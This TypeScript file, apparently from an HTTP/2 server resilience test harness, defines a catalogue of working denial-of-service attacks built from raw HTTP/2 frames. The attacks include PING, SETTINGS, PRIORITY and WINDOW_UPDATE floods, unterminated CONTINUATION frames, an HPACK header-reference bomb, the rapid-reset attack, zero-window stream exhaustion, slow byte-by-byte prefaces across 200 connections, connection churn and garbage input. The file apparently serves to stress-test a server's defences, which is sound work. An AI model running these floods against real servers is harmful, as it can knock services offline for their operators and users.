/** HTTP/2 itself: frames that cost their sender little. */
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, type Attacker, begin, PATHS } from '../attack.ts';
import {
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FrameType,
  HELLO,
  headerField,
  http2Frame,
  LITERAL_INDEXED,
  NEWEST_ENTRY,
  PREFACE,
} from '../http2-frames.ts';

const HEADERS = callHeaders(PATHS.sotw);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const PING = http2Frame(FrameType.PING, 0, 0, Buffer.alloc(8));
const SETTINGS = http2Frame(FrameType.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]));
const PRIORITY = http2Frame(FrameType.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 1]));
const WINDOW = http2Frame(FrameType.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1]));
const EMPTY_DATA = http2Frame(FrameType.DATA, 0, 1);
const OPEN = http2Frame(FrameType.HEADERS, END_HEADERS, 1, HEADERS);
const HALF_OPEN = http2Frame(FrameType.HEADERS, 0, 1, HEADERS);
const MORE_HEADERS = http2Frame(FrameType.CONTINUATION, 0, 1, headerField('x-more', 'y'.repeat(8_000)));
/** SETTINGS_INITIAL_WINDOW_SIZE 0. */
const NO_WINDOW = Buffer.concat([PREFACE, http2Frame(FrameType.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))]);
const BIG_HEADERS = Buffer.concat([HEADERS, headerField('x-big', 'z'.repeat(14_000))]);
const LARGE_HEADERS = Buffer.concat([HEADERS, headerField('x-big', 'z'.repeat(7_000))]);
const REFERENCES = Buffer.concat([
  HEADERS,
  headerField('x-bomb', 'b'.repeat(3_900), LITERAL_INDEXED),
  ...Array.from({ length: 4_000 }, () => NEWEST_ENTRY),
]);
/** Frames that are written at once. */
const BURST = 500;

export const FRAMES: Readonly<Record<string, Attack>> = {
  'PING flood': (attacker) => attacker.onSockets(HELLO, () => times(() => PING)),
  'SETTINGS flood': (attacker) => attacker.onSockets(HELLO, () => times(() => SETTINGS)),
  'PRIORITY flood': (attacker) => attacker.onSockets(HELLO, () => times(() => PRIORITY)),
  'WINDOW_UPDATE flood': (attacker) => attacker.onSockets(HELLO, () => times(() => WINDOW)),
  'empty DATA frames': (attacker) => attacker.onSockets(Buffer.concat([HELLO, OPEN]), () => times(() => EMPTY_DATA)),
  'CONTINUATION without an end': (attacker) => attacker.onSockets(Buffer.concat([HELLO, HALF_OPEN]), () => MORE_HEADERS),
  'headers of 14 kB on each stream': (attacker) =>
    attacker.onSockets(HELLO, (turn) => headers(BIG_HEADERS, 50, turn, END_HEADERS)),
  'headers of 14 kB by a client that acknowledges SETTINGS': (attacker) =>
    attacker.onSessions((session) => begin(session, PATHS.sotw, { 'x-big': 'z'.repeat(14_000) })),
  'headers of 7 kB on each stream': (attacker) =>
    attacker.onSockets(HELLO, (turn) => headers(LARGE_HEADERS, 50, turn, END_HEADERS)),
  'headers that refer 4 000 times to 4 kB': (attacker) =>
    attacker.onSockets(HELLO, (turn) => headers(REFERENCES, 5, turn, END_HEADERS)),
  'rapid reset': (attacker) =>
    attacker.onSockets(HELLO, (turn) =>
      times((i) => {
        const id = streamId(turn * BURST + i);
        return Buffer.concat([
          http2Frame(FrameType.HEADERS, END_HEADERS, id, HEADERS),
          http2Frame(FrameType.RST_STREAM, 0, id, CANCEL),
        ]);
      }),
    ),
  'a window of zero, and 16 000 calls': (attacker) =>
    attacker.onSockets(NO_WINDOW, (turn) => headers(HEADERS, turn < 320 ? 50 : 0, turn, END_HEADERS)),
  'calls that never say anything, 16 000 of them': (attacker) =>
    attacker.onSockets(HELLO, (turn) => headers(HEADERS, turn < 320 ? 50 : 0, turn, END_HEADERS)),
  'calls that end before they begin': (attacker) =>
    attacker.onSockets(HELLO, (turn) => headers(HEADERS, 50, turn, END_HEADERS | END_STREAM)),
  'a preface byte by byte, 200 connections': slowPrefaces,
  'silent connections, 200 of them': (attacker) => attacker.hold(200, Buffer.alloc(0)),
  'connections with SETTINGS alone, 200 of them': (attacker) => attacker.hold(200, HELLO),
  'connections with a call that says nothing, 200 of them': (attacker) => attacker.hold(200, Buffer.concat([HELLO, OPEN])),
  'connections opened and closed': async (attacker) => {
    while (!attacker.over) {
      const sockets = Array.from({ length: 20 }, () => attacker.dial());
      for (const socket of sockets) socket.end(HELLO);
      await Promise.all(sockets.map((socket) => new Promise((resolve) => socket.once('close', resolve))));
    }
  },
  'HTTP/1.1': (attacker) => attacker.hold(50, Buffer.from('GET / HTTP/1.1\r\nhost: x\r\n\r\n')),
  garbage: (attacker) => attacker.hold(50, Buffer.alloc(65_536, 0xa5)),
};

async function slowPrefaces(attacker: Attacker): Promise<void> {
  const sockets = Array.from({ length: 200 }, () => attacker.dial());
  for (let at = 0; !attacker.over; at = Math.min(at + 1, PREFACE.length - 2)) {
    for (const [i, socket] of sockets.entries()) {
      if (socket.destroyed) sockets[i] = attacker.dial();
      else socket.write(PREFACE.subarray(at, at + 1));
    }
    await pause(250);
  }
  for (const socket of sockets) socket.destroy();
}

function times(frame: (i: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: BURST }, (_, i) => frame(i)));
}

function headers(block: Buffer, count: number, turn: number, flags: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => headerFrames(block, streamId(turn * count + i), flags)));
}

/** HEADERS, and CONTINUATION where a frame is too small (16 384 bytes). */
function headerFrames(block: Buffer, id: number, flags: number): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_000) {
    const isLast = at + 16_000 >= block.length;
    const type = at === 0 ? FrameType.HEADERS : FrameType.CONTINUATION;
    const own = (isLast ? flags & END_HEADERS : 0) | (at === 0 ? flags & END_STREAM : 0);
    parts.push(http2Frame(type, own, id, block.subarray(at, at + 16_000)));
  }
  return Buffer.concat(parts);
}

function streamId(count: number): number {
  return 2 * count + 1;
}
